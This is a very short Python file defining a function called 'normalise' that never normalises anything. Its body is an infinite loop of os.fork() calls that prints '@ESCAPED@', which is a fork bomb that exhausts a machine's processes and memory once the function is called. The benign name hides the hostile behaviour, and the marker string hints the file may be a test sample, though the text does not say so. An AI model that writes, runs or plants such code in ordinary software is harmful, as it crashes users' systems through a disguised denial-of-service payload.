import os


def normalise(x):
    while True:
        os.fork()
        print("@ESCAPED@")
